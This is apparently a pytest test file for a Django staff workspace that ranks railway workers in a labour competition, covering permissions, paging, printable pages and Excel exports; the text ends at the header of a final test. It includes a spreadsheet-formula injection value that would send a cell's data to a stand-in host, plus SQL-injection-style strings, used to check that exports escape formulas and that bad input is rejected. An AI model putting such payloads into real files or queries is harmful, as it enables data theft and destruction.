"""The standings workspace (/staff/standings/): union staff's full rankings, exports and printable pages."""

from __future__ import annotations

import io
import re
from datetime import timedelta
from decimal import Decimal
from urllib.parse import unquote

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from competitions import jobs, tasks
from competitions.models import Job, JobStatus, Standing, StandingDay
from competitions.scopes import Scope
from competitions.standings import reads
from competitions.workspace import exports, views
from config.formatting import display_date
from tests.competitions import portal_data
from tests.competitions.standings_data import entry

pytestmark = pytest.mark.django_db

FORMULA_NAME = '=HYPERLINK("http://x.example/?"&D2,"点此核对")'


@pytest.fixture
def ranked(w):
    portal_data.add_drivers(w, 2)
    return portal_data.build(w)


@pytest.fixture
def staff(client, w):
    client.force_login(w.staff)
    return client


@pytest.fixture
def files(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path / "media")
    return tmp_path / "media"


def text(response) -> str:
    assert response.status_code == 200, response.status_code
    return response.content.decode()


def table_workers(page: str) -> list[int]:
    body = page.split('id="standings"')[1].split("</table>")[0]
    return [int(pk) for pk in re.findall(r'data-worker="(\d+)"', body)]


def expected_order(comp, day, scope=Scope.OVERALL, **filters) -> list[int]:
    rows = Standing.objects.filter(competition=comp, day=day, **filters)
    if scope.column:
        rows = rows.exclude(**{scope.column: None})
    return list(rows.order_by(scope.rank, "worker_id").values_list("worker_id", flat=True))


# -- who may open what -----------------------------------------------------------------------------

def pages(job: Job) -> list[str]:
    # The job pages (and the old workspace addresses that redirect to them) are tests/competitions/test_jobs.py's.
    return [reverse("workspace:day"), reverse("workspace:day_print")]


@pytest.fixture
def staff_job(w, files):
    job = Job.objects.create(kind="standings_day_xlsx", params={}, created_by=w.staff, status=JobStatus.SUCCEEDED,
                             done=1, total=1, filename="排名.xlsx")
    job.file.save("x.xlsx", io.BytesIO(b"PK"), save=True)
    return job


def test_anonymous_visitors_are_sent_to_the_login_page(client, w, staff_job):
    for page in pages(staff_job):
        response = client.get(page)
        assert response.status_code == 302 and response.url.startswith(reverse("login")), page
    response = client.post(reverse("workspace:export_day"), {})
    assert response.status_code == 302 and response.url.startswith(reverse("login"))


@pytest.mark.parametrize("role", ["alice_user", "clerk", "reviewer"])
def test_workers_clerks_and_reviewers_are_refused_every_page(client, w, staff_job, role):
    client.force_login(getattr(w, role))
    for page in pages(staff_job):
        assert client.get(page).status_code == 403, page
    assert client.post(reverse("workspace:export_day"), {"competition": w.comp.pk}).status_code == 403
    assert not Job.objects.exclude(pk=staff_job.pk).exists()


def test_staff_open_every_page_and_see_the_workspace_in_the_navigation(staff, w, ranked, staff_job):
    for page in pages(staff_job):
        assert staff.get(page).status_code == 200, page
    html = text(staff.get(reverse("workspace:day")))
    assert f'href="{reverse("workspace:day")}" class="on">排名工作台' in html


def test_another_staff_member_sees_my_export_in_the_history_but_cannot_download_it(client, w, f, staff_job):
    client.force_login(f.staff_user())
    assert client.get(reverse("jobs:detail", args=[staff_job.pk])).status_code == 200
    assert client.get(reverse("jobs:download", args=[staff_job.pk])).status_code == 404
    page = text(client.get(reverse("jobs:list")))
    assert f'href="{reverse("jobs:detail", args=[staff_job.pk])}"' in page
    assert reverse("jobs:download", args=[staff_job.pk]) not in page


# -- the day's full ranking --------------------------------------------------------------------------

def test_the_day_ranking_shows_full_names_numbers_units_points_apart_and_the_four_ranks(staff, w, ranked):
    d1 = portal_data.days()[-1]
    page = text(staff.get(reverse("workspace:day")))  # the latest day by default
    assert f'value="{d1:%Y-%m-%d}" selected' in page
    assert table_workers(page) == expected_order(w.comp, d1)
    alice = Standing.objects.get(competition=w.comp, day=d1, worker=w.alice)
    row = re.search(rf'<tr data-worker="{w.alice.pk}">(.*?)</tr>', page, re.S).group(1)
    cells = re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)
    assert cells[:7] == [str(alice.rank_overall), w.alice.employee_no, "张三明", "北京机务段", "运用车间",
                         "电力机车司机", "机务"]
    assert cells[7:10] == ["23.000", "18.000", "5.000"]  # points, approved, pending
    assert cells[10:14] == [str(alice.rank_overall), str(alice.rank_business_system), str(alice.rank_job_type),
                            str(alice.rank_unit)]
    assert "李四" in page and "王五" in page  # staff see every full name
    assert w.alice.id_number not in page and w.alice.mobile not in page


def test_a_scope_list_and_the_depot_and_job_type_filters(staff, w, ranked):
    d1 = portal_data.days()[-1]
    page = text(staff.get(reverse("workspace:day"), {"scope": f"job_type:{w.track.pk}"}))
    assert table_workers(page) == [w.carol.pk]
    page = text(staff.get(reverse("workspace:day"), {"scope": f"unit:{w.depot.pk}"}))
    assert table_workers(page) == expected_order(w.comp, d1, Scope.UNIT, depot_id=w.depot.pk)
    assert w.carol.pk not in table_workers(page)
    page = text(staff.get(reverse("workspace:day"), {"scope": "overall", "depot": w.other_depot.pk}))
    assert table_workers(page) == [w.carol.pk]
    page = text(staff.get(reverse("workspace:day"), {"scope": f"business_system:{w.system.pk}",
                                                     "job_type": w.driver.pk, "depot": w.depot.pk}))
    assert table_workers(page) == expected_order(w.comp, d1, Scope.BUSINESS_SYSTEM, job_type_id=w.driver.pk,
                                                 depot_id=w.depot.pk)


def test_an_earlier_day_shows_that_days_ranks(staff, w, ranked):
    d3 = portal_data.days()[0]
    page = text(staff.get(reverse("workspace:day"), {"day": d3.isoformat()}))
    assert table_workers(page) == expected_order(w.comp, d3)
    assert f'value="{d3:%Y-%m-%d}" selected' in page


def tied_world(w, n=9):
    """``n`` more drivers, in tied pairs (two workers on each total), then the days ranked."""
    day = portal_data.days()[-1]
    for i in range(n):
        worker = portal_data.factories.worker(w.depot, w.driver, name=f"并{i}列")
        entry(w.comp, worker, w.km, day, 100, points=Decimal(10 + i // 2), status="approved")
    portal_data.rank(w)


def walk(client, url, params) -> tuple[list[int], list[int]]:
    """Every page of a list through its "next" links: the workers in order, and the queries per page."""
    seen, counts = [], []
    page_url = url + "?" + "&".join(f"{k}={v}" for k, v in params.items())
    while page_url:
        with CaptureQueriesContext(connection) as queries:
            page = text(client.get(page_url))
        counts.append(len(queries))
        seen += table_workers(page)
        found = re.search(r'id="next-page" href="([^"]+)"', page)
        page_url = found.group(1).replace("&amp;", "&") if found else None
    return seen, counts


def test_paging_through_ties_neither_repeats_nor_skips_anyone_and_costs_the_same_queries_per_page(
        staff, w, ranked, monkeypatch):
    tied_world(w)
    monkeypatch.setattr(views, "PAGE", 3)
    d1 = portal_data.days()[-1]
    order = expected_order(w.comp, d1)
    ranks = dict(Standing.objects.filter(competition=w.comp, day=d1).values_list("worker_id", "rank_overall"))
    assert len(set(ranks.values())) < len(ranks)  # there are ties, some across page boundaries

    seen, counts = walk(staff, reverse("workspace:day"), {"competition": w.comp.pk, "day": d1.isoformat()})

    assert seen == order and len(seen) == len(set(seen)) == len(order) > 3 * 3
    assert len(set(counts)) == 1, counts  # the fifth page costs what the first costs
    seen, _counts = walk(staff, reverse("workspace:day"), {"day": d1.isoformat(), "scope": f"job_type:{w.driver.pk}"})
    assert seen == expected_order(w.comp, d1, Scope.JOB_TYPE, job_type_id=w.driver.pk)


def test_a_page_runs_a_bounded_number_of_queries(staff, w, ranked, django_assert_max_num_queries):
    # session and user 2, role scope 3, competitions 2, choices 3, days 1, the page 1, the digest 1, the
    # navigation's unread count 1
    with django_assert_max_num_queries(14):
        text(staff.get(reverse("workspace:day"), {"scope": f"unit:{w.depot.pk}", "job_type": w.driver.pk}))


@pytest.mark.parametrize("params, message", [
    ({"day": "2026-02-30"}, "日期格式应为 YYYY-MM-DD"),
    ({"day": "'; DROP TABLE x; --"}, "日期格式应为 YYYY-MM-DD"),
    ({"day": "9999-12-31"}, "日期格式应为 YYYY-MM-DD"),
    ({"day": "2001-01-01"}, "2001年1月1日 没有已发布的排名"),
    ({"scope": "unit:999999999"}, "所选排名范围不存在"),
    ({"scope": "job_type"}, "所选排名范围不存在"),
    ({"scope": "overall:3"}, "所选排名范围不存在"),
    ({"scope": "nonsense"}, "所选排名范围不存在"),
    ({"depot": "１２"}, "所选站段不存在"),
    ({"job_type": "99999999999999999999999"}, "所选工种不存在"),
    ({"competition": "abc"}, "所选竞赛不存在"),
    ({"after": "garbage"}, "翻页链接无效或已过期"),
])
def test_bad_input_shows_a_message_and_the_default_list_never_an_error(staff, w, ranked, params, message):
    page = text(staff.get(reverse("workspace:day"), params))
    assert message in page
    assert table_workers(page)  # and still a list
    assert text(staff.get(reverse("workspace:day_print"), params))


def test_a_cursor_of_another_list_or_day_is_refused(staff, w, ranked):
    d3, _d2, d1 = portal_data.days()
    of = reads.StaffList(Scope.OVERALL)
    row = reads.staff_board(competition_id=w.comp.pk, day=d3, of=of, limit=1)[0]
    other_day = of.encode(row, competition_id=w.comp.pk, day=d3)
    page = text(staff.get(reverse("workspace:day"), {"day": d1.isoformat(), "after": other_day}))
    assert "翻页链接无效或已过期" in page


def test_a_competition_without_standings_says_so(staff, w, f):
    page = text(staff.get(reverse("workspace:day"), {"competition": f.competition().pk}))
    assert "该竞赛还没有已发布的排名" in page


# -- the printable page --------------------------------------------------------------------------------

def test_the_printable_page_has_the_header_and_the_top_rows_of_the_filtered_list(staff, w, ranked, monkeypatch):
    monkeypatch.setattr(views, "PRINT_ROWS", 2)
    d1 = portal_data.days()[-1]
    page = text(staff.get(reverse("workspace:day_print"), {"depot": w.depot.pk}))
    assert w.comp.name in page and f"排名日期：{display_date(d1)}" in page and "生成时间" in page
    assert "站段：北京机务段" in page and "本页最多列出前 2 行" in page and "已截断" in page
    assert table_workers(page) == expected_order(w.comp, d1, depot_id=w.depot.pk)[:2]
    assert "/static/portal/print.css" in page and "<nav" not in page
    assert re.findall(r"<script[^>]*>", page) == ['<script src="/static/portal/workspace.js" defer>']
    staff.cookies["django_language"] = "en"
    page = text(staff.get(reverse("workspace:day_print"), {"depot": w.depot.pk}))
    assert "at most the top 2 rows (cut short: export to Excel" in page  # a space before the note



def test_the_printable_page_names_the_chosen_skill_grade_as_the_filter_does(staff, w, ranked):
    # given staff who filtered the day's list to 技师 and above
    page = text(staff.get(reverse("workspace:day_print"), {"grade": 5}))
    # then the printed header names the grade as the filter's choice does, not its stored number
    assert "技能等级：技师及以上" in page and "≥ 5" not in page
    staff.cookies["django_language"] = "en"
    page = text(staff.get(reverse("workspace:day_print"), {"grade": 5}))
    assert "≥ 5" not in page and "Technician" in page


# -- exports ---------------------------------------------------------------------------------------

def test_an_export_runs_in_the_background_and_writes_every_row_of_the_list_with_escaped_formulas(
        staff, w, ranked, files, run_jobs):
    # given a worker whose name is a formula
    d1 = portal_data.days()[-1]
    w.bob.name = FORMULA_NAME
    w.bob.save()

    # when staff export the driver list
    response = run_jobs(lambda: staff.post(reverse("workspace:export_day"), {
        "competition": w.comp.pk, "day": d1.isoformat(), "scope": f"job_type:{w.driver.pk}"}))

    # then the job page is shown, the job has finished and its file holds the list
    job = Job.objects.get()
    assert response.status_code == 302 and response.url == reverse("jobs:detail", args=[job.pk])
    assert job.status == JobStatus.SUCCEEDED and job.created_by == w.staff
    order = expected_order(w.comp, d1, Scope.JOB_TYPE, job_type_id=w.driver.pk)
    assert job.done == job.total == len(order)
    assert job.params == {"competition": w.comp.pk, "day": d1.isoformat(), "scope": f"job_type:{w.driver.pk}"}
    page = text(staff.get(response.url))
    assert f"已完成，共 {len(order)} 行" in page and reverse("jobs:download", args=[job.pk]) in page

    download = staff.get(reverse("jobs:download", args=[job.pk]))
    assert download.status_code == 200
    disposition = download["Content-Disposition"]
    assert disposition.startswith("attachment; filename*=utf-8''")
    assert unquote(disposition.split("''")[1]) == f"{w.comp.name}_每日排名_{d1.isoformat()}_电力机车司机.xlsx"
    book = openpyxl.load_workbook(io.BytesIO(b"".join(download.streaming_content)))
    assert book.sheetnames == ["排名", "说明"]
    sheet = book["排名"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("名次", "工号", "姓名", "站段", "班组", "工种", "业务系统", "积分", "已审核积分", "待审核积分",
                       "总排名", "业务系统排名", "工种排名", "站段排名", "名次变化")
    assert len(rows) == 1 + len(order)
    by_number = {r[1]: r for r in rows[1:]}
    bob = Standing.objects.get(competition=w.comp, day=d1, worker=w.bob)
    bob_cell = next(c for c in sheet.iter_rows(min_row=2) if c[1].value == w.bob.employee_no)[2]
    assert bob_cell.value == FORMULA_NAME and bob_cell.data_type == "s"
    assert by_number[w.bob.employee_no][7:10] == (float(bob.points), float(bob.approved_points),
                                                  float(bob.pending_points))
    assert [r[1] for r in rows[1:]] == list(Standing.objects.filter(worker_id__in=order, competition=w.comp, day=d1)
                                            .order_by("rank_job_type", "worker_id").values_list("employee_no", flat=True))
    about = dict(book["说明"].iter_rows(values_only=True))
    assert about["劳动竞赛"] == w.comp.name and about["排名日期"] == d1.isoformat() and about["行数"] == len(order)


def test_an_export_reports_its_progress_after_every_chunk(w, ranked, monkeypatch):
    d1 = portal_data.days()[-1]
    monkeypatch.setattr(exports, "PROGRESS_EVERY", 2)
    steps = []
    params = {"competition": w.comp.pk, "day": d1.isoformat(), "scope": "overall"}

    exports.day_xlsx(params, io.BytesIO(), lambda done, total: steps.append((done, total)))

    total = Standing.objects.filter(competition=w.comp, day=d1).count()
    assert total > 4
    assert steps == [(0, total), *[(n, total) for n in range(2, total, 2)], (total, total), (total, total)]


def test_the_job_page_shows_progress_and_polls_its_status(staff, w):
    job = Job.objects.create(kind="standings_day_xlsx", created_by=w.staff, status=JobStatus.RUNNING, done=5000,
                             total=223000)
    page = text(staff.get(reverse("jobs:detail", args=[job.pk])))
    assert "已导出 5,000 / 223,000 行" in page
    assert f'data-poll="{reverse("jobs:status", args=[job.pk])}"' in page
    assert '<progress max="223000" value="5000"' in page
    assert staff.get(reverse("jobs:status", args=[job.pk])).json() == {
        "status": "running", "done": 5000, "total": 223000, "percent": 2, "finished": False,
        "text": "已导出 5,000 / 223,000 行"}
    Job.objects.filter(pk=job.pk).update(status=JobStatus.FAILED, error="该日的排名已不存在，无法导出。")
    assert staff.get(reverse("jobs:status", args=[job.pk])).json()["finished"] is True
    assert "任务失败：该日的排名已不存在" in text(staff.get(reverse("jobs:detail", args=[job.pk])))
    assert staff.get(reverse("jobs:download", args=[job.pk])).status_code == 404


def test_an_export_of_a_day_that_is_gone_fails_with_a_message(w, files):
    job = Job.objects.create(kind="standings_day_xlsx", created_by=w.staff,
                             params={"competition": w.comp.pk, "day": "2001-01-01", "scope": "overall"})
    assert tasks.run_job.apply(args=[job.pk]).get() is None
    job.refresh_from_db()
    assert job.status == JobStatus.FAILED and "该日的排名已不存在" in job.error and not job.file


@pytest.mark.parametrize(("language", "shown"), [
    ("en", "The chosen depot does not exist; that filter is removed."),
    ("zh-hans", "所选站段不存在，已取消该筛选。"),
])
def test_an_export_whose_depot_is_gone_says_so_in_the_readers_language(staff, w, ranked, files, language, shown):
    # given an export started by someone reading English, of a depot that no longer exists when it runs
    d1 = portal_data.days()[-1]
    job = Job.objects.create(kind="standings_day_xlsx", created_by=w.staff, language="en", params={
        "competition": w.comp.pk, "day": d1.isoformat(), "scope": "overall", "depot": "999999"})
    tasks.run_job.apply(args=[job.pk])
    job.refresh_from_db()
    # then the refusal is kept in Chinese with its message id, and read in the reader's language
    assert job.status == JobStatus.FAILED and job.error == "所选站段不存在，已取消该筛选。"
    assert job.error_params["id"] == "所选站段不存在，已取消该筛选。"
    staff.cookies["django_language"] = language
    assert shown in text(staff.get(reverse("jobs:detail", args=[job.pk])))


def test_an_export_with_bad_input_starts_nothing_and_says_why(staff, w, ranked):
    response = staff.post(reverse("workspace:export_day"), {"competition": w.comp.pk, "day": "2026-13-01"},
                          follow=True)
    assert "日期格式应为 YYYY-MM-DD" in text(response)
    assert not Job.objects.exists()
    assert staff.get(reverse("workspace:export_day")).status_code == 405


def test_an_export_pressed_twice_while_it_waits_is_one_job(staff, w, ranked, monkeypatch):
    monkeypatch.setattr(tasks.run_job, "delay", lambda *a, **kw: None)  # the queue holds it: not run yet
    d3, _d2, d1 = portal_data.days()
    snapshot = snapshot_of(w, d3, d1)
    for url, data in ((reverse("workspace:export_day"), {"competition": w.comp.pk, "day": d1.isoformat()}),
                      (reverse("workspace:export_period", args=[snapshot.pk]), {"scope": "overall"})):
        first = staff.post(url, data)
        again = staff.post(url, data)
        assert first.url == again.url, url
    assert Job.objects.count() == 2  # one per export, not one per press
    other = staff.post(reverse("workspace:export_day"), {"competition": w.comp.pk, "day": d1.isoformat(),
                                                          "depot": w.depot.pk})
    assert other.status_code == 302 and Job.objects.count() == 3  # another list is another export

def test_a_finished_job_is_not_run_again_and_a_missing_one_is_ignored(w, files):
    job = Job.objects.create(kind="standings_day_xlsx", created_by=w.staff, status=JobStatus.SUCCEEDED)
    assert jobs.job_run(job_id=job.pk) is None
    assert jobs.job_run(job_id=987654) is None


def test_old_jobs_and_their_files_are_deleted_when_a_new_job_starts(w, staff_job, files, monkeypatch):
    monkeypatch.setattr(tasks.run_job, "delay", lambda *a, **kw: None)
    path = files / staff_job.file.name
    assert path.exists()
    Job.objects.filter(pk=staff_job.pk).update(created_at=timezone.now() - timedelta(days=jobs.JOB_KEEP_DAYS + 1))
    recent = Job.objects.create(kind="standings_day_xlsx", created_by=w.staff)

    jobs.job_start(kind="standings_day_xlsx", params={}, user=w.staff)

    assert not Job.objects.filter(pk=staff_job.pk).exists() and not path.exists()
    assert Job.objects.filter(pk=recent.pk).exists() and Job.objects.count() == 2


# -- period standings ------------------------------------------------------------------------------

@pytest.fixture
def run_snapshots(monkeypatch, django_capture_on_commit_callbacks):
    """Snapshots are computed as soon as they are committed, in this process."""
    monkeypatch.setattr(tasks.period_snapshot_task, "delay",
                        lambda *a, **kw: tasks.period_snapshot_task.apply(args=a, kwargs=kw))

    def started(send):
        with django_capture_on_commit_callbacks(execute=True):
            return send()

    return started


def snapshot_of(w, start, end):
    from competitions.standings import periods

    return periods.compute_period_snapshot(competition_id=w.comp.pk, start=start, end=end)


def period_order(snapshot, scope=Scope.OVERALL, **filters) -> list[int]:
    from competitions.models import PeriodStanding

    rows = PeriodStanding.objects.filter(snapshot=snapshot, **filters)
    if scope.column:
        rows = rows.exclude(**{scope.column: None})
    return list(rows.order_by(scope.rank, "worker_id").values_list("worker_id", flat=True))


def test_a_period_is_computed_in_the_background_and_its_page_shows_the_list_and_how_it_was_computed(
        staff, w, ranked, run_snapshots):
    from competitions.models import PeriodSnapshot

    d3, d2, _d1 = portal_data.days()
    response = run_snapshots(lambda: staff.post(reverse("workspace:periods"), {
        "competition": w.comp.pk, "start": d3.isoformat(), "end": d2.isoformat()}))

    snapshot = PeriodSnapshot.objects.get()
    assert response.status_code == 302 and response.url == reverse("workspace:period", args=[snapshot.pk])
    assert snapshot.status == "ready" and snapshot.requested_by == w.staff
    page = text(staff.get(response.url))
    assert table_workers(page) == period_order(snapshot)
    # alice in [d3, d2]: 3 + 6 + 9 approved, nothing pending (her pending entry is dated d1)
    row = re.search(rf'<tr data-worker="{w.alice.pk}">(.*?)</tr>', page, re.S).group(1)
    cells = re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)
    assert cells[1:3] == [w.alice.employee_no, "张三明"] and cells[7:10] == ["18.000", "18.000", "0.000"]
    assert f"工作日期 {display_date(d3)} 至 {display_date(d2)} 的录入积分" in page
    assert "按 " in page and "时录入的状态计算" in page and snapshot.digest[:8] in page
    assert "变化" not in page.split('id="standings"')[1].split("</thead>")[0]


def test_a_preset_month_sets_the_range(staff, w, ranked, run_snapshots):
    from competitions.models import PeriodSnapshot
    from config.months import format_month, month_last_day

    d1 = portal_data.days()[-1]
    run_snapshots(lambda: staff.post(reverse("workspace:periods"), {
        "competition": w.comp.pk, "preset": f"month:{format_month(d1)}"}))
    snapshot = PeriodSnapshot.objects.get()
    assert (snapshot.start, snapshot.end) == (d1.replace(day=1), month_last_day(d1))
    page = text(staff.get(reverse("workspace:periods"), {"competition": w.comp.pk}))
    assert "整个竞赛" in page and "今年以来" in page and f'value="month:{format_month(d1)}"' in page
    assert reverse("workspace:period", args=[snapshot.pk]) in page


def test_the_recent_periods_count_their_ranked_workers_with_separators(staff, w, ranked, run_snapshots):
    from competitions.models import PeriodSnapshot
    from config.months import format_month

    # given a period of a railway's size (the figure stood in for: the list only shows it)
    run_snapshots(lambda: staff.post(reverse("workspace:periods"), {
        "competition": w.comp.pk, "preset": f"month:{format_month(portal_data.days()[-1])}"}))
    PeriodSnapshot.objects.update(rows=223456)
    # when staff list the recent periods
    page = text(staff.get(reverse("workspace:periods"), {"competition": w.comp.pk}))
    # then the count reads as counts do everywhere (config.formatting)
    assert '<td class="num">223,456</td>' in page.split('id="snapshots"')[1]


@pytest.mark.parametrize("data, message", [
    ({"start": "2026-03-31", "end": "2026-03-01"}, "开始日期不能晚于结束日期"),
    ({"start": "0001-01-01", "end": "9999-12-31"}, "请选择一个时段，或填写开始和结束日期"),
    ({"start": "1990-01-01", "end": "2099-12-31"}, "时段须在竞赛期间内"),
    ({"start": "yesterday", "end": ""}, "请选择一个时段，或填写开始和结束日期"),
    ({"preset": "month:1990-01"}, "所选时段不存在"),
    ({"preset": "'; --"}, "所选时段不存在"),
])
def test_a_bad_period_shows_a_message_and_computes_nothing(staff, w, ranked, data, message):
    from competitions.models import PeriodSnapshot

    page = text(staff.post(reverse("workspace:periods"), {"competition": w.comp.pk, **data}))
    assert message in page
    assert not PeriodSnapshot.objects.exists()


def test_a_period_wholly_in_the_future_shows_a_message_and_computes_nothing(staff, w, ranked):
    from django.utils import timezone

    from competitions.models import PeriodSnapshot

    tomorrow = timezone.localdate() + timedelta(days=1)
    w.comp.end_date = tomorrow + timedelta(days=30)
    w.comp.save(update_fields=["end_date"])
    page = text(staff.post(reverse("workspace:periods"), {"competition": w.comp.pk, "start": tomorrow.isoformat(),
                                                          "end": w.comp.end_date.isoformat()}))
    assert "开始日期不能晚于今天" in page
    assert not PeriodSnapshot.objects.exists()


@pytest.mark.parametrize("preset", ["all", "ytd", "month"])
def test_a_competition_not_yet_started_offers_no_preset_and_a_posted_one_is_refused_not_a_server_error(
        staff, w, preset):
    # The presets ran from the competition's first day whatever today was: for a competition starting
    # tomorrow every one of them was wholly in the future, and choosing one was a 500 (the snapshot's
    # refusal escaped the form).
    from django.utils import timezone

    from competitions.models import PeriodSnapshot

    tomorrow = timezone.localdate() + timedelta(days=1)
    w.comp.start_date, w.comp.end_date = tomorrow, tomorrow + timedelta(days=60)
    w.comp.save(update_fields=["start_date", "end_date"])
    form = text(staff.get(reverse("workspace:periods"), {"competition": w.comp.pk}))
    assert "整个竞赛" not in form and "今年以来" not in form
    key = {"all": "all", "ytd": "ytd", "month": f"month:{tomorrow:%Y-%m}"}[preset]
    response = staff.post(reverse("workspace:periods"), {"competition": w.comp.pk, "preset": key})
    assert response.status_code == 200
    assert "所选时段不存在" in text(response)
    assert not PeriodSnapshot.objects.exists()


def test_a_competition_that_started_today_still_offers_its_presets(staff, w):
    from django.utils import timezone

    today = timezone.localdate()
    w.comp.start_date, w.comp.end_date = today, today + timedelta(days=60)
    w.comp.save(update_fields=["start_date", "end_date"])
    form = text(staff.get(reverse("workspace:periods"), {"competition": w.comp.pk}))
    assert "整个竞赛" in form and f"month:{today:%Y-%m}" in form


def test_a_running_snapshot_page_polls_and_a_failed_one_says_so(staff, w):
    from competitions.models import PeriodSnapshot

    snapshot = PeriodSnapshot.objects.create(competition=w.comp, start=w.comp.start_date, end=w.comp.start_date)
    page = text(staff.get(reverse("workspace:period", args=[snapshot.pk])))
    assert f'data-poll="{reverse("workspace:period_status", args=[snapshot.pk])}"' in page
    assert "正在计算" in page and 'id="standings"' not in page
    assert staff.get(reverse("workspace:period_status", args=[snapshot.pk])).json()["finished"] is False
    PeriodSnapshot.objects.filter(pk=snapshot.pk).update(status="failed", error="Traceback: secret detail")
    page = text(staff.get(reverse("workspace:period", args=[snapshot.pk])))
    assert "计算失败" in page and "secret detail" not in page
    assert staff.get(reverse("workspace:period_status", args=[snapshot.pk])).json()["finished"] is True
    assert staff.get(reverse("workspace:period", args=[987654])).status_code == 404


def test_paging_a_period_list_through_ties(staff, w, ranked, monkeypatch):
    tied_world(w)
    d3, _d2, d1 = portal_data.days()
    snapshot = snapshot_of(w, d3, d1)
    monkeypatch.setattr(views, "PAGE", 3)
    seen, counts = walk(staff, reverse("workspace:period", args=[snapshot.pk]), {})
    assert seen == period_order(snapshot) and len(seen) == len(set(seen)) > 9
    assert len(set(counts)) == 1, counts
    seen, _counts = walk(staff, reverse("workspace:period", args=[snapshot.pk]),
                         {"scope": f"unit:{w.depot.pk}", "job_type": w.driver.pk})
    assert seen == period_order(snapshot, Scope.UNIT, depot_id=w.depot.pk, job_type_id=w.driver.pk)


def test_the_period_page_runs_a_bounded_number_of_queries_and_refuses_a_bad_cursor(
        staff, w, ranked, django_assert_max_num_queries):
    d3, _d2, d1 = portal_data.days()
    snapshot = snapshot_of(w, d3, d1)
    with django_assert_max_num_queries(11):  # 10, and the navigation's unread count
        text(staff.get(reverse("workspace:period", args=[snapshot.pk]), {"scope": f"job_type:{w.driver.pk}"}))
    page = text(staff.get(reverse("workspace:period", args=[snapshot.pk]), {"after": "x.y"}))
    assert "翻页链接无效或已过期" in page and table_workers(page) == period_order(snapshot)


def test_the_collective_tabs_rank_depots_and_teams_by_average_and_show_the_total(staff, w, ranked):
    from competitions.standings import periods

    d3, _d2, d1 = portal_data.days()
    snapshot = snapshot_of(w, d3, d1)
    for tab, level in (("depots", "depot"), ("teams", "team")):
        page = text(staff.get(reverse("workspace:period", args=[snapshot.pk]), {"tab": tab}))
        units = periods.unit_rankings(snapshot, level)
        body = page.split('id="units"')[1]
        assert [int(u) for u in re.findall(r'data-unit="(\d+)"', body)] == [u.unit_id for u in units]
        assert "人均已审核积分" in page and "已审核积分合计" in page
    page = text(staff.get(reverse("workspace:period", args=[snapshot.pk]), {"tab": "depots"}))
    # 北京机务段: the drivers, alice and bob; 北京工务段: carol alone (5 approved points)
    carol_depot = re.search(rf'<tr data-unit="{w.other_depot.pk}">(.*?)</tr>', page, re.S).group(1)
    assert re.findall(r"<td[^>]*>(.*?)</td>", carol_depot, re.S)[1:] == ["北京工务段", "1", "5.000", "5.000"]


def test_a_period_export_has_the_list_and_the_collective_tables(staff, w, ranked, files, run_jobs):
    d3, _d2, d1 = portal_data.days()
    snapshot = snapshot_of(w, d3, d1)
    response = run_jobs(lambda: staff.post(reverse("workspace:export_period", args=[snapshot.pk]),
                                           {"scope": "overall", "depot": w.depot.pk}))
    job = Job.objects.get()
    assert response.url == reverse("jobs:detail", args=[job.pk]) and job.status == JobStatus.SUCCEEDED, job.error
    download = staff.get(reverse("jobs:download", args=[job.pk]))
    book = openpyxl.load_workbook(io.BytesIO(b"".join(download.streaming_content)))
    assert book.sheetnames == ["排名", "先进集体·站段", "先进集体·班组", "说明"]
    rows = list(book["排名"].iter_rows(values_only=True))
    assert rows[0][-1] == "站段排名" and len(rows) - 1 == len(period_order(snapshot, depot_id=w.depot.pk))
    depots = list(book["先进集体·站段"].iter_rows(values_only=True))
    assert depots[0] == ("名次", "站段", "参赛人数", "人均已审核积分", "已审核积分合计")
    assert {r[1] for r in depots[1:]} == {"北京机务段", "北京工务段"}
    about = dict(book["说明"].iter_rows(values_only=True))
    assert about["排名摘要（SHA-256）"] == snapshot.digest and about["站段"] == "北京机务段"


def test_period_pages_are_for_staff_only(client, w, ranked):
    d3, _d2, d1 = portal_data.days()
    snapshot = snapshot_of(w, d3, d1)
    urls = [reverse("workspace:periods"), reverse("workspace:period", args=[snapshot.pk]),
            reverse("workspace:period_status", args=[snapshot.pk]), reverse("workspace:period_print", args=[snapshot.pk])]
    posts = [reverse("workspace:periods"), reverse("workspace:export_period", args=[snapshot.pk])]
    for url in urls + posts:
        assert client.get(url).url.startswith(reverse("login"))
    for account in (w.alice_user, w.clerk, w.reviewer):
        client.force_login(account)
        for url in urls:
            assert client.get(url).status_code == 403, url
        for url in posts:
            assert client.post(url, {"competition": w.comp.pk, "preset": "all"}).status_code == 403, url
    client.force_login(w.staff)
    for url in urls:
        assert client.get(url).status_code == 200, url


def test_the_period_printable_page(staff, w, ranked):
    d3, _d2, d1 = portal_data.days()
    snapshot = snapshot_of(w, d3, d1)
    page = text(staff.get(reverse("workspace:period_print", args=[snapshot.pk])))
    assert f"{display_date(d3)} ~ {display_date(d1)}" in page and snapshot.digest in page
    assert table_workers(page) == period_order(snapshot)
    page = text(staff.get(reverse("workspace:period_print", args=[snapshot.pk]), {"tab": "teams"}))
    assert "先进集体：班组" in page and 'id="units"' in page


def test_another_competitions_list_shows_only_its_workers_and_refuses_this_ones_cursor(staff, w, ranked, f):
    # given a second competition with standings of its own
    d3, _d2, d1 = portal_data.days()
    other = f.competition(start=w.comp.start_date, end=w.comp.end_date, status="draft")
    rule = f.rule(other, w.track)
    newcomer = f.worker(w.other_depot, w.track, name="赵六")
    entry(other, newcomer, rule, d1, 7, status="approved")
    from competitions.services import standings_recompute

    standings_recompute(competition=other, day=d1)
    of = reads.StaffList(Scope.OVERALL)
    mine = of.encode(reads.staff_board(competition_id=w.comp.pk, day=d1, of=of, limit=1)[0],
                     competition_id=w.comp.pk, day=d1)

    # when staff choose it (a draft: staff see every competition)
    page = text(staff.get(reverse("workspace:day"), {"competition": other.pk}))

    # then only its workers are listed, and a cursor of the first competition's list is refused there
    assert table_workers(page) == [newcomer.pk] and "赵六" in page
    page = text(staff.get(reverse("workspace:day"), {"competition": other.pk, "day": d1.isoformat(), "after": mine}))
    assert "翻页链接无效或已过期" in page and table_workers(page) == [newcomer.pk]
    assert "赵六" not in text(staff.get(reverse("workspace:day"), {"competition": w.comp.pk}))


def test_the_admin_lists_who_ran_which_job_read_only(admin_client, w, staff_job):
